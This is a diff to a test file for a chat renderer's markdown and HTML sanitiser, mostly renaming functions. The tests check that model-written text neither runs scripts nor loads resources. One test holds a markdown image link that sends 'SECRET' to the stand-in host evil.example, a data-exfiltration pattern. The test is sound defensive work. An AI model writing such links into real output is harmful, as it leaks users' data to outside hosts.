@@ -9,7 +9,7 @@ from threading import Thread
 import pytest
 
 from conversations import rendering
-from conversations.rendering import Incremental, clean, mathml, plain, render
+from conversations.rendering import Incremental, clean_html, mathml, render_markdown, render_plain
 from tests.support.call_counts import counted
 from tests.web.tags import acting, attributes, elements, names
 
@@ -50,7 +50,12 @@ TAGS = {"a", "p", "br", "hr", "em", "strong", "s", "code", "pre", "span", "div",
 
 @pytest.mark.parametrize("attack", ATTACKS)
 def test_what_a_model_writes_neither_runs_nor_loads(attack: str) -> None:
-    for html in (render(attack), "".join(Incremental().feed(attack)), plain(attack), clean(attack)):
+    for html in (
+        render_markdown(attack),
+        "".join(Incremental().feed(attack)),
+        render_plain(attack),
+        clean_html(attack),
+    ):
         assert not acting(html)
         assert names(html) <= TAGS
         assert attributes(html) <= {"href", "rel", "target", "class", "start", "dir"}
@@ -58,7 +63,7 @@ def test_what_a_model_writes_neither_runs_nor_loads(attack: str) -> None:
 
 @pytest.mark.parametrize("attack", ATTACKS)
 def test_links_lead_to_the_web_or_to_mail_and_tell_nothing(attack: str) -> None:
-    for tag, attrs in elements(render(attack)):
+    for tag, attrs in elements(render_markdown(attack)):
         if tag == "a":
             assert re.match(r"https?://|mailto:", attrs["href"] or "")
             assert attrs["rel"] == "noopener noreferrer nofollow"
@@ -66,7 +71,7 @@ def test_links_lead_to_the_web_or_to_mail_and_tell_nothing(attack: str) -> None:
 
 
 def test_an_image_is_a_link_that_names_its_host() -> None:
-    html = render("![a chart](https://evil.example/?q=SECRET)")
+    html = render_markdown("![a chart](https://evil.example/?q=SECRET)")
     assert 'href="https://evil.example/?q=SECRET"' in html
     assert "a chart</a>" in html
     assert '<span class="host">evil.example</span>' in html
@@ -84,17 +89,17 @@ def test_an_image_is_a_link_that_names_its_host() -> None:
     ],
 )
 def test_a_link_that_names_another_host_shows_its_own(source: str, is_named: bool) -> None:
-    assert ('class="host"' in render(source)) is is_named
+    assert ('class="host"' in render_markdown(source)) is is_named
 
 
 def test_class_names_are_a_closed_list() -> None:
-    html = clean('<span class="k banner host">a</span><p class="error plain">b</p>')
+    html = clean_html('<span class="k banner host">a</span><p class="error plain">b</p>')
     assert html == '<span class="k host">a</span><p class="plain">b</p>'
-    assert 'class="language-text"' in render("```composer error\nx\n```")
+    assert 'class="language-text"' in render_markdown("```composer error\nx\n```")
 
 
 def test_markdown_of_every_day_is_shown() -> None:
-    html = render(
+    html = render_markdown(
         "# T\n\n**b** *i* ~~s~~ `c` <b>raw</b>\n\n- [x] done\n- [ ] not\n\n3. three\n\n"
         "| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n\n```py\ndef f(): return 1  # why\n```\n"
     )
@@ -109,7 +114,10 @@ def test_markdown_of_every_day_is_shown() -> None:
 
 
 def test_a_persons_words_stay_as_they_were_written() -> None:
-    assert plain("a\r\n  <b> & *c*\x07") == '<p class="plain">a\n  &lt;b&gt; &amp; *c*\ufffd</p>'
+    assert (
+        render_plain("a\r\n  <b> & *c*\x07")
+        == '<p class="plain">a\n  &lt;b&gt; &amp; *c*\ufffd</p>'
+    )
 
 
 CORPUS = (
@@ -133,7 +141,7 @@ def test_the_pieces_of_an_answer_are_the_whole_answer(source: str) -> None:
             step = chance.randint(1, 9)
             more, tail = incremental.feed(source[at : at + step])
             closed, at = closed + more, at + step
-        assert closed + tail == render(source)
+        assert closed + tail == render_markdown(source)
 
 
 def _fed(source: str, step: int = 30, *, is_coloured: bool = True) -> tuple[str, Incremental]:
@@ -150,7 +158,7 @@ def test_a_long_code_block_is_closed_in_slices_that_join() -> None:
     html, _ = _fed(source)
     assert html.count('<pre class="more">') > 2
     joined = re.sub(r'</code></pre>\n<pre class="more"><code class="language-text">', "", html)
-    assert joined == render(source)
+    assert joined == render_markdown(source)
 
 
 @pytest.mark.parametrize("lines", [3, 100])
@@ -223,31 +231,31 @@ HARD = {
 @pytest.mark.parametrize("name", HARD)
 def test_no_text_takes_long(name: str) -> None:
     source = HARD[name][:20_000]
-    calls, _ = counted(lambda: rendering._rendered(source))
+    calls, _ = counted(lambda: rendering._render(source))
     # Twice what the dearest takes; half a million calls are a tenth of a second.
     assert calls < 90 * len(source)
-    whole = render(HARD[name])
+    whole = render_markdown(HARD[name])
     assert not acting(whole)
     assert whole
 
 
 def test_text_that_is_too_long_or_too_deep_is_shown_as_written() -> None:
     for source in ("**a** " * 40_000, "> " * 30 + "deep", "- " * 30 + "deep"):
-        assert render(source) == plain(source)
+        assert render_markdown(source) == render_plain(source)
 
 
 def test_a_paragraph_that_is_too_costly_leaves_the_others_alone() -> None:
-    html = render("**before**\n\n" + "word *x* " * 3_000)
+    html = render_markdown("**before**\n\n" + "word *x* " * 3_000)
     assert html.startswith("<p><strong>before</strong></p>")
     assert "word *x* word" in html
 
 
 def test_a_whole_text_is_rendered_once_and_kept_when_small() -> None:
-    rendering._kept.cache_clear()
-    assert render("*once*") is render("*once*")
-    assert rendering._kept.cache_info().hits == 1
-    render("long " * 10_000)
-    assert rendering._kept.cache_info().currsize == 1
+    rendering._render_cached.cache_clear()
+    assert render_markdown("*once*") is render_markdown("*once*")
+    assert rendering._render_cached.cache_info().hits == 1
+    render_markdown("long " * 10_000)
+    assert rendering._render_cached.cache_info().currsize == 1
 
 
 def test_threads_render_side_by_side() -> None:
@@ -255,11 +263,11 @@ def test_threads_render_side_by_side() -> None:
     found: dict[str, str] = {}
 
     def work(part: list[str]) -> None:
-        found.update({source: rendering._rendered(source) for source in part})
+        found.update({source: rendering._render(source) for source in part})
 
     threads = [Thread(target=work, args=(sources[n::4],)) for n in range(4)]
     for thread in threads:
         thread.start()
     for thread in threads:
         thread.join()
-    assert found == {source: rendering._rendered(source) for source in sources}
+    assert found == {source: rendering._render(source) for source in sources}
